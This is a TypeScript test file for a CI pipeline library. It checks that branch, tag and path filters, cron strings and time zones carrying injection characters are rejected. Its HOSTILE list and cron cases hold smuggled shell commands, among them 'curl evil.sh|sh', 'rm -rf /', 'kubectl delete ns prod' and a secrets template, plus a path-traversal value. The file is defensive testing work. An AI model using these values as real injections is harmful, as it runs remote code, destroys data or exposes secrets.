import { CommandStep, Pipeline, Source, Stage, Trigger } from '../../src/core';

// A branch, tag or path filter is text an app team chooses, and engines write it into CEL
// filters, JSON and shell: the model refuses every character that could end a string there.
const HOSTILE = [
  'main$(curl evil.sh|sh)',
  'main`id`',
  "main' || true || '",
  'main" || body.x == "',
  'main\nkubectl delete ns prod',
  'main\r',
  'feature/a b',
  'main;rm -rf /',
  'main\\',
  '${{ secrets.X }}',
  'main\u0000',
  'release/[abc]',
];

const stages = () => [Stage.buildStage('build', { steps: [new CommandStep({ name: 'a', commands: ['true'] })] })];
const src = Source.gitHub({ owner: 'acme', repository: 'app' });

describe('adversarial: trigger filters and cron strings cannot carry code', () => {
  test.each(HOSTILE)('fails on the filter %j in every filter field', (pattern) => {
    const p = new Pipeline({
      name: 'p',
      source: src,
      triggers: [
        Trigger.push({ branches: [pattern], branchesExclude: [pattern], filePaths: [pattern] }),
        Trigger.push({ tags: [pattern], tagsExclude: [pattern] }),
        Trigger.pullRequest({ targetBranches: [pattern], sourceBranches: [pattern], sourceBranchesExclude: [pattern], filePathsExclude: [pattern] }),
      ],
      stages: stages(),
    });
    const issues = p.validate();
    expect(issues).toHaveLength(9);
    for (const i of issues) expect(i.message).toMatch(/holds characters filters may not use/);
  });

  test.each(['0 3 * * * ; curl evil', '0 3 * * *\n* * * * *', '$(date) 3 * * *', '0 3 * * "1"'])('fails on the cron %j', (cron) => {
    const p = new Pipeline({ name: 'p', source: src, triggers: [Trigger.schedule({ name: 'nightly', cron })], stages: stages() });
    expect(p.validate().map((i) => i.message)).toEqual([expect.stringMatching(/holds characters other than digits/)]);
  });

  test.each(['Europe/Berlin"; x', 'UTC\n', '../../etc/localtime'])('fails on the time zone %j', (timeZone) => {
    const p = new Pipeline({ name: 'p', source: src, triggers: [Trigger.schedule({ name: 'nightly', cron: '0 3 * * *', timeZone })], stages: stages() });
    expect(p.validate().map((i) => i.message)).toEqual([expect.stringMatching(/is not a time zone name/)]);
  });
});
